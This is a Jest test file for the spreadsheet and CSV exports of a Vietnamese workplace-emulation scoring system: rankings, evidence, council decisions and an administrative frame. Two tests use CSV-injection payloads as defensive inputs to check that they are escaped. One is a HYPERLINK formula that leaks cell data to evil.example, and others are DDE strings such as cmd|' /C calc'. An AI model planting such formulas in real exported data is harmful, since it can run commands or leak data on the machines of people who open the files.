import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import type { Person, Unit } from '../../../src/domain/model.js';
import type { Obligation, RuleId, Status } from '../../../src/domain/rules/obligation.js';
import { finalizeScores } from '../../../src/domain/scoring/final-score.js';
import { computeScores } from '../../../src/domain/scoring/score.js';
import type { PhaseAdjustment, PhaseExemption } from '../../../src/domain/snapshots/snapshot-content.js';
import { buildSnapshotContent } from '../../../src/domain/snapshots/snapshot-content.js';
import { parseInstant } from '../../../src/domain/time.js';
import { snapshotCsv, snapshotXlsx } from '../../../src/presentation/exports/snapshot-export.js';
import { placeDateLine } from '../../../src/presentation/exports/frame-lines.js';
import type { ExportFrame } from '../../../src/config/export-frame.js';
import { checksum } from '../../../src/infra/snapshots/checksum.js';
import type { StoredSnapshot } from '../../../src/infra/store/snapshot-store.js';
import { config } from '../../factories/dataset.factory.js';

const campaign = config.campaigns.find((c) => c.phases.some((p) => p.id === '2025-1'))!;
const phase = campaign.phases.find((p) => p.id === '2025-1')!;

function ob(id: string, rule: RuleId, status: Status, unitId: string, personId: string | null): Obligation {
  return {
    id,
    rule,
    subjectId: id,
    unitId,
    personId,
    dueDate: null,
    status,
    doneAt: null,
    workingDaysLate: null,
    tight: false,
    anchor: null,
    phaseId: '2025-1',
    details: {},
  };
}

const LONG_NAME = 'Trung tâm Công nghệ thông tin và Truyền thông';

/**
 * Two units, three people: KHTC half on time in planning, TTCNTT all on time. With the council's
 * decisions: a plan of TTCNTT's, overdue, is excused (and so counts nowhere), and KHTC gets 5 points.
 */
function snapshot({
  decisions = false,
  points = 5,
  names = {} as Partial<Record<'KHTC' | 'p1' | 'reason', string>>,
} = {}): StoredSnapshot {
  const units = new Map<string, Unit>([
    ['KHTC', { id: 'KHTC', name: names.KHTC ?? 'Phòng Kế hoạch - Tài chính', parentId: null, headId: null }],
    ['TTCNTT', { id: 'TTCNTT', name: LONG_NAME, parentId: null, headId: null }],
  ]);
  const person = (id: string, name: string, unitId: string): [string, Person] => [
    id,
    { id, name, unitId, role: 'staff', email: null, active: true },
  ];
  const people = new Map<string, Person>([
    person('p1', names.p1 ?? 'Nguyễn Thị Hoà', 'KHTC'),
    person('p2', 'Trần Văn Đức', 'TTCNTT'),
    person('p3', 'Lê Thị Ánh', 'TTCNTT'),
  ]);
  const obligations = [
    ob('plan:t1', 'plan', 'met', 'KHTC', 'p1'),
    ob('plan:t2', 'plan', 'late', 'KHTC', 'p1'),
    ob('staff:d1', 'staff_submission', 'met', 'KHTC', 'p1'),
    ob('plan:t3', 'plan', 'met', 'TTCNTT', 'p2'),
    ob('staff:d2', 'staff_submission', 'met', 'TTCNTT', 'p3'),
    ob('weekly:TTCNTT:W02', 'weekly_schedule', 'met', 'TTCNTT', null),
  ];
  const exemptions: PhaseExemption[] = [];
  const adjustments: PhaseAdjustment[] = [];
  if (decisions) {
    const excused = {
      ...ob('plan:t4', 'plan', 'exempt', 'TTCNTT', 'p2'),
      details: { exemptedStatus: 'overdue' },
    };
    obligations.push(excused);
    exemptions.push({
      id: '7',
      obligation: excused,
      by: 'Chủ tịch Hội đồng',
      at: parseInstant('2025-06-20T14:30:00+07:00')!,
      reason: 'Phần mềm quản lý văn bản ngừng hoạt động, 02–04/06',
    });
    adjustments.push({
      id: '3',
      phaseId: '2025-1',
      level: 'unit',
      subjectId: 'KHTC',
      points,
      by: 'Hội đồng thi đua',
      at: parseInstant('2025-06-25T09:05:00+07:00')!,
      reason: names.reason ?? 'Hoàn thành nhiệm vụ đột xuất',
    });
  }
  const computed = computeScores(obligations, config.campaigns, people.values(), { withEvidence: true });
  const entries = finalizeScores(computed, adjustments, config.campaigns, people.values());
  const content = buildSnapshotContent({ phase, campaign, entries, units, people, exemptions, adjustments });
  return {
    id: 'x',
    phaseId: '2025-1',
    version: 3,
    frozenAt: parseInstant('2025-06-30T17:00:00+07:00')!,
    asOf: parseInstant('2025-05-31T23:59:59+07:00')!,
    frozenBy: 'Thư ký Hội đồng',
    checksum: checksum(content),
    content,
  };
}

async function workbook(s: StoredSnapshot): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await snapshotXlsx(s)) as unknown as ArrayBuffer);
  return book;
}

const rowValues = (sheet: ExcelJS.Worksheet, n: number) => (sheet.getRow(n).values as unknown[]).slice(1);

describe('XLSX review export', () => {
  const s = snapshot();

  it('puts units, then people, then evidence, then decisions, each titled with the phase, version and checksum', async () => {
    const book = await workbook(s);
    expect(book.worksheets.map((w) => w.name)).toEqual([
      'Đơn vị',
      'Cá nhân',
      'Căn cứ',
      'Miễn trừ, điều chỉnh',
    ]);
    const headings = [
      'Bảng 1. Kết quả và xếp hạng các đơn vị',
      'Bảng 2. Kết quả và xếp hạng cá nhân',
      'Bảng 3. Căn cứ',
      'Bảng 4. Quyết định điều chỉnh điểm và miễn trừ nghĩa vụ',
    ];
    book.worksheets.forEach((sheet, i) => {
      expect(sheet.getCell('A1').value).toBe('Kết quả thi đua — Sơ kết 2025-1');
      expect(String(sheet.getCell('A2').value)).toContain(headings[i]);
      expect(String(sheet.getCell('A2').value)).toContain(
        'Phong trào thi đua năm 2025, Đợt 1 (từ 01/01/2025 đến 31/05/2025)',
      );
      expect(sheet.getCell('A3').value).toBe(
        'Số liệu tính đến 23:59 ngày 31/05/2025; phiên bản 3, chốt lúc 17:00 ngày 30/06/2025 bởi ' +
          `Thư ký Hội đồng; mã kiểm tra ${s.checksum}`,
      );
    });
  });

  it('prints on A4, one page wide, the column headers on every page, numbered "Trang x / y"', async () => {
    const book = await workbook(s);
    for (const [name, orientation] of [
      ['Đơn vị', 'landscape'],
      ['Cá nhân', 'landscape'],
      ['Căn cứ', 'portrait'],
    ] as const) {
      const sheet = book.getWorksheet(name)!;
      expect(sheet.pageSetup).toEqual(
        expect.objectContaining({
          paperSize: 9,
          orientation,
          fitToPage: true,
          fitToWidth: 1,
          fitToHeight: 0,
          printTitlesRow: '4:4',
        }),
      );
      expect(sheet.headerFooter.oddFooter).toContain('Trang &P / &N');
      expect(sheet.headerFooter.oddFooter).toContain(
        `Kết quả thi đua — Sơ kết 2025-1, phiên bản 3 — ${name}`,
      );
      // On screen the headers stay put while the rows scroll.
      expect(sheet.views[0]).toEqual(expect.objectContaining({ state: 'frozen', ySplit: 4 }));
    }
  });

  it('ranks the units with score, grade and each rule rate with its counts', async () => {
    const units = (await workbook(s)).getWorksheet('Đơn vị')!;
    expect(rowValues(units, 4)).toEqual([
      'Hạng',
      'Mã',
      'Tên đơn vị',
      'Điểm',
      'Xếp loại',
      'Báo cáo kế hoạch thực hiện (3 ngày)\n(trọng số 10)',
      'Chuyên viên trình dự thảo cho lãnh đạo đơn vị\n(trọng số 15)',
      'Đơn vị trình dự thảo cho lãnh đạo sở\n(trọng số 15)',
      'Số lần góp ý dự thảo\n(trọng số 15)',
      'Văn bản quản lý trên phần mềm\n(trọng số 15)',
      'Chữ ký số cơ quan và cá nhân\n(trọng số 10)',
      'Sử dụng hộp thư công vụ\n(trọng số 10)',
      'Lịch công tác tuần đúng hạn\n(trọng số 10)',
      'Tỷ lệ cán bộ xuất sắc',
      'Chỉ tiêu',
    ]);
    const first = units.getRow(5);
    const second = units.getRow(6);
    expect([1, 2, 3, 4, 5].map((c) => first.getCell(c).value)).toEqual([
      1,
      'TTCNTT',
      LONG_NAME,
      100,
      'Hoàn thành xuất sắc',
    ]);
    // (10·½ + 15·1) / 25 × 100 = 80
    expect([1, 2, 3, 4, 5].map((c) => second.getCell(c).value)).toEqual([
      2,
      'KHTC',
      'Phòng Kế hoạch - Tài chính',
      80,
      'Hoàn thành tốt',
    ]);
    expect(second.getCell(4).numFmt).toBe('0.00');
    const plan = second.getCell(6);
    expect(plan.value).toBe(0.5);
    expect(plan.numFmt).toBe('0.0%" (1/2)"');
    // A rule nobody was judged on prints a dash, not 0 %.
    expect(second.getCell(8).value).toBe('—');
    // The long name wraps inside its column onto a taller row instead of running into the score.
    expect(first.getCell(3).alignment.wrapText).toBe(true);
    expect(first.height).toBeGreaterThanOrEqual(2 * 12);
    expect(units.getRow(7).getCell(1).value).toBeNull();
    expect(String(units.getRow(8).getCell(1).value)).toContain(
      'Điểm = Σ (trọng số × tỷ lệ) / Σ trọng số × 100',
    );
  });

  it('lists people with their unit, and the evidence as one row per obligation counted', async () => {
    const book = await workbook(s);
    const people = book.getWorksheet('Cá nhân')!;
    expect(rowValues(people, 4).slice(0, 6)).toEqual([
      'Hạng',
      'Mã',
      'Họ và tên',
      'Đơn vị',
      'Điểm',
      'Xếp loại',
    ]);
    expect([5, 6, 7].map((r) => rowValues(people, r).slice(0, 6))).toEqual([
      [1, 'p2', 'Trần Văn Đức', LONG_NAME, 100, 'Hoàn thành xuất sắc'],
      [1, 'p3', 'Lê Thị Ánh', LONG_NAME, 100, 'Hoàn thành xuất sắc'],
      [3, 'p1', 'Nguyễn Thị Hoà', 'Phòng Kế hoạch - Tài chính', 80, 'Hoàn thành tốt'],
    ]);

    const evidence = book.getWorksheet('Căn cứ')!;
    expect(rowValues(evidence, 4)).toEqual(['Đợt', 'Cấp', 'Mã', 'Tên', 'Tiêu chí', 'Mã nghĩa vụ']);
    const rows: unknown[][] = [];
    for (let r = 5; evidence.getRow(r).getCell(6).value !== null; r++) rows.push(rowValues(evidence, r));
    expect(rows).toEqual([
      ['2025-1', 'Đơn vị', 'TTCNTT', LONG_NAME, 'Báo cáo kế hoạch thực hiện (3 ngày)', 'plan:t3'],
      ['2025-1', 'Đơn vị', 'TTCNTT', LONG_NAME, 'Chuyên viên trình dự thảo cho lãnh đạo đơn vị', 'staff:d2'],
      ['2025-1', 'Đơn vị', 'TTCNTT', LONG_NAME, 'Lịch công tác tuần đúng hạn', 'weekly:TTCNTT:W02'],
      [
        '2025-1',
        'Đơn vị',
        'KHTC',
        'Phòng Kế hoạch - Tài chính',
        'Báo cáo kế hoạch thực hiện (3 ngày)',
        'plan:t1',
      ],
      [
        '2025-1',
        'Đơn vị',
        'KHTC',
        'Phòng Kế hoạch - Tài chính',
        'Báo cáo kế hoạch thực hiện (3 ngày)',
        'plan:t2',
      ],
      [
        '2025-1',
        'Đơn vị',
        'KHTC',
        'Phòng Kế hoạch - Tài chính',
        'Chuyên viên trình dự thảo cho lãnh đạo đơn vị',
        'staff:d1',
      ],
      ['2025-1', 'Cá nhân', 'p2', 'Trần Văn Đức', 'Báo cáo kế hoạch thực hiện (3 ngày)', 'plan:t3'],
      ['2025-1', 'Cá nhân', 'p3', 'Lê Thị Ánh', 'Chuyên viên trình dự thảo cho lãnh đạo đơn vị', 'staff:d2'],
      ['2025-1', 'Cá nhân', 'p1', 'Nguyễn Thị Hoà', 'Báo cáo kế hoạch thực hiện (3 ngày)', 'plan:t1'],
      ['2025-1', 'Cá nhân', 'p1', 'Nguyễn Thị Hoà', 'Báo cáo kế hoạch thực hiện (3 ngày)', 'plan:t2'],
      [
        '2025-1',
        'Cá nhân',
        'p1',
        'Nguyễn Thị Hoà',
        'Chuyên viên trình dự thảo cho lãnh đạo đơn vị',
        'staff:d1',
      ],
    ]);
  });

  it('is the same file every time the same version is exported', async () => {
    const decided = snapshot({ decisions: true });
    const [a, b] = [await snapshotXlsx(s), await snapshotXlsx(decided)];
    await new Promise((resolve) => setTimeout(resolve, 2100));
    expect((await snapshotXlsx(s)).equals(a)).toBe(true);
    expect((await snapshotXlsx(decided)).equals(b)).toBe(true);
  });
});

describe('XLSX review export: the council’s decisions', () => {
  const decided = snapshot({ decisions: true });

  it('lists the adjustments, then the exemptions, on a print-ready sheet of its own', async () => {
    const sheet = (await workbook(decided)).getWorksheet('Miễn trừ, điều chỉnh')!;
    expect(sheet.getCell('A4').value).toBe('1. Điều chỉnh điểm');
    expect(rowValues(sheet, 5)).toEqual([
      'Cấp',
      'Mã',
      'Tên',
      'Tên', // the name spans two columns (merged), under the exemptions' Đơn vị and Cá nhân
      'Điểm cộng/trừ',
      'Người quyết định',
      'Thời điểm',
      'Lý do',
    ]);
    expect(rowValues(sheet, 6)).toEqual([
      'Đơn vị',
      'KHTC',
      'Phòng Kế hoạch - Tài chính',
      'Phòng Kế hoạch - Tài chính',
      5,
      'Hội đồng thi đua',
      '25/06/2025 09:05',
      'Hoàn thành nhiệm vụ đột xuất',
    ]);
    // Signed, two decimals: "+5.00".
    expect(sheet.getCell('E6').numFmt).toBe('+0.00;-0.00;0.00');
    expect(sheet.getCell('A7').value).toBeNull();
    expect(sheet.getCell('A8').value).toBe('2. Miễn trừ nghĩa vụ');
    expect(rowValues(sheet, 9)).toEqual([
      'Mã nghĩa vụ',
      'Tiêu chí',
      'Đơn vị',
      'Cá nhân',
      'Kết quả nếu không miễn trừ',
      'Người quyết định',
      'Thời điểm',
      'Lý do',
    ]);
    expect(rowValues(sheet, 10)).toEqual([
      'plan:t4',
      'Báo cáo kế hoạch thực hiện (3 ngày)',
      LONG_NAME,
      'Trần Văn Đức',
      'Quá hạn',
      'Chủ tịch Hội đồng',
      '20/06/2025 14:30',
      'Phần mềm quản lý văn bản ngừng hoạt động, 02–04/06',
    ]);
    expect(sheet.getCell('A11').value).toBeNull();
    expect(String(sheet.getCell('A12').value)).toContain(
      'Điểm cộng/trừ: điểm Hội đồng cộng (+) hoặc trừ (-)',
    );
    expect(sheet.pageSetup).toEqual(
      expect.objectContaining({
        paperSize: 9,
        orientation: 'landscape',
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        // The exemptions can run to pages: their header repeats.
        printTitlesRow: '9:9',
      }),
    );
    expect(sheet.headerFooter.oddFooter).toContain('Trang &P / &N');
    expect(sheet.headerFooter.oddFooter).toContain(
      'Kết quả thi đua — Sơ kết 2025-1, phiên bản 3 — Miễn trừ, điều chỉnh',
    );
  });

  it('shows the computed score and the adjustment beside the final score where a row was adjusted', async () => {
    const book = await workbook(decided);
    const units = book.getWorksheet('Đơn vị')!;
    expect(rowValues(units, 4).slice(0, 7)).toEqual([
      'Hạng',
      'Mã',
      'Tên đơn vị',
      'Điểm tính',
      'Điều chỉnh',
      'Điểm',
      'Xếp loại',
    ]);
    expect(rowValues(units, 5).slice(0, 7)).toEqual([
      1,
      'TTCNTT',
      LONG_NAME,
      100,
      0,
      100,
      'Hoàn thành xuất sắc',
    ]);
    expect(rowValues(units, 6).slice(0, 7)).toEqual([
      2,
      'KHTC',
      'Phòng Kế hoạch - Tài chính',
      80,
      5,
      85,
      'Hoàn thành tốt',
    ]);
    expect(units.getCell('E6').numFmt).toBe('+0.00;-0.00;0.00');
    expect(units.getCell('F6').numFmt).toBe('0.00');
    // The excused plan counts nowhere: TTCNTT's plan rate is still 1/1.
    expect(units.getCell('H5').numFmt).toBe('0.0%" (1/1)"');
    // Nobody's score was adjusted: the people sheet keeps its columns.
    expect(rowValues(book.getWorksheet('Cá nhân')!, 4).slice(0, 7)).toEqual([
      'Hạng',
      'Mã',
      'Họ và tên',
      'Đơn vị',
      'Điểm',
      'Xếp loại',
      'Báo cáo kế hoạch thực hiện (3 ngày)\n(trọng số 10)',
    ]);
  });

  it('says in one line that the council decided nothing, for versions frozen before decisions too', async () => {
    const sheet = (await workbook(snapshot())).getWorksheet('Miễn trừ, điều chỉnh')!;
    expect(sheet.getCell('A4').value).toBe('Không có miễn trừ hoặc điều chỉnh điểm trong đợt này.');
    expect(sheet.rowCount).toBe(4);
    expect(sheet.pageSetup.printTitlesRow).toBeUndefined();

    // A version frozen before exemptions and adjustments existed has none of their fields.
    const now = snapshot();
    const { exemptions: _e, adjustments: _a, ...older } = now.content;
    const strip = <T extends { computedScore?: number; adjustment?: number }>({
      computedScore: _c,
      adjustment: _d,
      ...row
    }: T) => row;
    const legacy: StoredSnapshot = {
      ...now,
      content: { ...older, units: older.units.map(strip), people: older.people.map(strip) },
    };
    expect((await snapshotXlsx(legacy)).equals(await snapshotXlsx(now))).toBe(true);
    expect(snapshotCsv(legacy).decisions.equals(snapshotCsv(now).decisions)).toBe(true);
    expect(snapshotCsv(legacy).units.equals(snapshotCsv(now).units)).toBe(true);
  });
});

describe('CSV review export', () => {
  it('writes the same tables as the workbook, one file per sheet, as the sheet shows them', () => {
    const csv = snapshotCsv(snapshot());
    const lines = (b: Buffer) => b.toString('utf8').slice(1).split('\r\n');
    expect([...csv.units.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const units = lines(csv.units);
    expect(units[0]).toMatch(/^"?Kết quả thi đua — Sơ kết 2025-1\. Bảng 1\. /);
    expect(units[1]).toBe(
      'Hạng,Mã,Tên đơn vị,Điểm,Xếp loại,Báo cáo kế hoạch thực hiện (3 ngày) (trọng số 10),' +
        'Chuyên viên trình dự thảo cho lãnh đạo đơn vị (trọng số 15),Đơn vị trình dự thảo cho lãnh đạo sở (trọng số 15),' +
        'Số lần góp ý dự thảo (trọng số 15),Văn bản quản lý trên phần mềm (trọng số 15),' +
        'Chữ ký số cơ quan và cá nhân (trọng số 10),Sử dụng hộp thư công vụ (trọng số 10),' +
        'Lịch công tác tuần đúng hạn (trọng số 10),Tỷ lệ cán bộ xuất sắc,Chỉ tiêu',
    );
    expect(units[3]).toBe(
      '2,KHTC,Phòng Kế hoạch - Tài chính,80.00,Hoàn thành tốt,50.0% (1/2),100.0% (1/1),,,,,,,0.0%,90.0%',
    );
    expect(lines(csv.people)[1].startsWith('Hạng,Mã,Họ và tên,Đơn vị,Điểm,Xếp loại,')).toBe(true);
    expect(lines(csv.evidence).slice(1, 3)).toEqual([
      'Đợt,Cấp,Mã,Tên,Tiêu chí,Mã nghĩa vụ',
      '2025-1,Đơn vị,TTCNTT,Trung tâm Công nghệ thông tin và Truyền thông,Báo cáo kế hoạch thực hiện (3 ngày),plan:t3',
    ]);
    const decisions = lines(csv.decisions);
    expect(decisions[0]).toMatch(/^"?Kết quả thi đua — Sơ kết 2025-1\. Bảng 4\. /);
    expect(decisions.slice(1)).toEqual(['Không có miễn trừ hoặc điều chỉnh điểm trong đợt này.', '']);
  });

  it('writes the decisions as the sheet shows them, and the adjusted scores with their parts', () => {
    const csv = snapshotCsv(snapshot({ decisions: true }));
    const lines = (b: Buffer) => b.toString('utf8').slice(1).split('\r\n');
    expect(lines(csv.decisions).slice(1)).toEqual([
      '1. Điều chỉnh điểm',
      'Cấp,Mã,Tên,Điểm cộng/trừ,Người quyết định,Thời điểm,Lý do',
      'Đơn vị,KHTC,Phòng Kế hoạch - Tài chính,+5.00,Hội đồng thi đua,25/06/2025 09:05,Hoàn thành nhiệm vụ đột xuất',
      '',
      '2. Miễn trừ nghĩa vụ',
      'Mã nghĩa vụ,Tiêu chí,Đơn vị,Cá nhân,Kết quả nếu không miễn trừ,Người quyết định,Thời điểm,Lý do',
      'plan:t4,Báo cáo kế hoạch thực hiện (3 ngày),Trung tâm Công nghệ thông tin và Truyền thông,Trần Văn Đức,' +
        'Quá hạn,Chủ tịch Hội đồng,20/06/2025 14:30,"Phần mềm quản lý văn bản ngừng hoạt động, 02–04/06"',
      '',
    ]);
    const units = lines(csv.units);
    expect(units[1].startsWith('Hạng,Mã,Tên đơn vị,Điểm tính,Điều chỉnh,Điểm,Xếp loại,')).toBe(true);
    expect(
      units[2].startsWith('1,TTCNTT,Trung tâm Công nghệ thông tin và Truyền thông,100.00,0.00,100.00,'),
    ).toBe(true);
    expect(units[3].startsWith('2,KHTC,Phòng Kế hoạch - Tài chính,80.00,+5.00,85.00,Hoàn thành tốt,')).toBe(
      true,
    );
    expect(lines(csv.people)[1].startsWith('Hạng,Mã,Họ và tên,Đơn vị,Điểm,Xếp loại,')).toBe(true);
  });

  it('writes a name or reason a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const calc = "-2+3+cmd|' /C calc'!A0";
    const csv = snapshotCsv(
      snapshot({
        decisions: true,
        points: -5,
        names: { KHTC: hyperlink, p1: calc, reason: "@SUM(1+1)*cmd|' /C calc'!A0" },
      }),
    );
    const text = (b: Buffer) => b.toString('utf8');
    // No field anywhere starts with a formula character once a spreadsheet has split the line;
    // a field starting with "-" is a number.
    for (const line of Object.values(csv).map(text).join('\r\n').split('\r\n')) {
      for (const [, field] of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
        const value = field.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"');
        expect(value).not.toMatch(/^[=+@\t\r]/);
        if (value.startsWith('-')) expect(value).toMatch(/^-\d+(\.\d+)?$/);
      }
    }
    const units = text(csv.units).split('\r\n');
    expect(units).toContain(
      `2,KHTC,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",80.00,-5.00,75.00,Hoàn thành tốt,` +
        '50.0% (1/2),100.0% (1/1),,,,,,,0.0%,90.0%',
    );
    expect(text(csv.people)).toContain(`,"'-2+3+cmd|' /C calc'!A0",`);
    expect(text(csv.decisions)).toContain(
      `Đơn vị,KHTC,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",-5.00,Hội đồng thi đua,` +
        `25/06/2025 09:05,"'@SUM(1+1)*cmd|' /C calc'!A0"`,
    );
  });
});

describe('Review export: the administrative frame (Nghị định 30/2020)', () => {
  const frame: ExportFrame = {
    superior: 'UBND TỈNH HÀ NAM',
    agency: 'SỞ THÔNG TIN VÀ TRUYỀN THÔNG',
    place: 'Hà Nam',
    signers: [
      { authority: null, title: 'NGƯỜI LẬP BIỂU', name: 'Lê Thị Ánh' },
      { authority: 'TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG', title: 'CHỦ TỊCH', name: 'Nguyễn Văn An' },
    ],
  };
  const s = snapshot();

  it('opens the units sheet with the agency, the national motto and the frozen day, and closes it with the signers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await snapshotXlsx(s, frame)) as unknown as ArrayBuffer);
    const units = book.getWorksheet('Đơn vị')!;
    // A merged cell's text once, from the cell it is merged into.
    const texts = (r: number) => {
      const out: unknown[] = [];
      units.getRow(r).eachCell((cell) => {
        if (cell.master.address === cell.address && typeof cell.value === 'string') out.push(cell.value);
      });
      return out;
    };
    expect(texts(1)).toEqual(['UBND TỈNH HÀ NAM', 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM']);
    expect(texts(2)).toEqual(['SỞ THÔNG TIN VÀ TRUYỀN THÔNG', 'Độc lập - Tự do - Hạnh phúc']);
    // Frozen 30/06/2025 17:00 local time.
    expect(texts(3)).toEqual(['Hà Nam, ngày 30 tháng 6 năm 2025']);
    expect(units.getCell('A1').font.bold).toBeFalsy();
    expect(units.getCell('A2').font.bold).toBe(true);
    // Then the title and the table, four rows lower; the header still repeats on every page.
    expect(units.getCell('A5').value).toBe('Kết quả thi đua — Sơ kết 2025-1');
    expect(rowValues(units, 8).slice(0, 3)).toEqual(['Hạng', 'Mã', 'Tên đơn vị']);
    expect(units.pageSetup).toEqual(
      expect.objectContaining({
        paperSize: 9,
        orientation: 'landscape',
        fitToWidth: 1,
        printTitlesRow: '8:8',
      }),
    );
    // Below the notes: the signers side by side, titles over blank rows over names.
    const all: string[][] = [];
    for (let r = 11; r <= units.rowCount; r++) all.push(texts(r) as string[]);
    const signing = all.filter((t) => t.length > 0 && !t[0].includes('='));
    expect(signing.slice(-3)).toEqual([
      ['TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG'],
      ['NGƯỜI LẬP BIỂU', 'CHỦ TỊCH'],
      ['Lê Thị Ánh', 'Nguyễn Văn An'],
    ]);
    const nameRow = units.rowCount;
    expect(units.getRow(nameRow).getCell(1).value).toBe('Lê Thị Ánh');
    expect(units.getRow(nameRow - 1).getCell(1).value).toBeNull();
    // Only the first sheet carries the frame.
    expect(book.getWorksheet('Cá nhân')!.getCell('A1').value).toBe('Kết quả thi đua — Sơ kết 2025-1');
  });

  it('is the same file every time for the same version and frame, and differs from the unframed file', async () => {
    const a = await snapshotXlsx(s, frame);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    expect((await snapshotXlsx(s, frame)).equals(a)).toBe(true);
    expect((await snapshotXlsx(s)).equals(a)).toBe(false);
    expect(snapshotCsv(s, frame).units.equals(snapshotCsv(s, frame).units)).toBe(true);
  });

  it('writes the frame as leading and trailing CSV lines, text a spreadsheet cannot run', () => {
    const lines = snapshotCsv(s, frame).units.toString('utf8').slice(1).split('\r\n');
    expect(lines.slice(0, 4)).toEqual([
      'UBND TỈNH HÀ NAM,CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
      'SỞ THÔNG TIN VÀ TRUYỀN THÔNG,Độc lập - Tự do - Hạnh phúc',
      ',"Hà Nam, ngày 30 tháng 6 năm 2025"',
      '',
    ]);
    expect(lines[4]).toMatch(/^"?Kết quả thi đua — Sơ kết 2025-1\. Bảng 1\. /);
    expect(lines.slice(-5)).toEqual([
      '',
      ',"TM. HỘI ĐỒNG THI ĐUA, KHEN THƯỞNG"',
      'NGƯỜI LẬP BIỂU,CHỦ TỊCH',
      'Lê Thị Ánh,Nguyễn Văn An',
      '',
    ]);
    // The other sheets' files are as without a frame.
    expect(snapshotCsv(s, frame).people.equals(snapshotCsv(s).people)).toBe(true);
    const hostile = snapshotCsv(s, {
      ...frame,
      place: '=cmd|calc',
      signers: [{ authority: null, title: 'X', name: '@SUM(1)' }],
    });
    const text = hostile.units.toString('utf8');
    expect(text).toContain(`,"'=cmd|calc, ngày 30 tháng 6 năm 2025"`);
    expect(text).toContain(`"'@SUM(1)"`);
  });

  it('writes a day below 10 and the months 1 and 2 with a leading zero', () => {
    expect(placeDateLine('Hà Nam', parseInstant('2025-02-05T10:00:00+07:00')!)).toBe(
      'Hà Nam, ngày 05 tháng 02 năm 2025',
    );
    expect(placeDateLine('Hà Nam', parseInstant('2025-11-20T23:30:00+07:00')!)).toBe(
      'Hà Nam, ngày 20 tháng 11 năm 2025',
    );
    // 17:30 UTC on 31/12 is already 1 January in Hà Nội.
    expect(placeDateLine('Phủ Lý', parseInstant('2025-12-31T17:30:00Z')!)).toBe(
      'Phủ Lý, ngày 01 tháng 01 năm 2026',
    );
  });
});
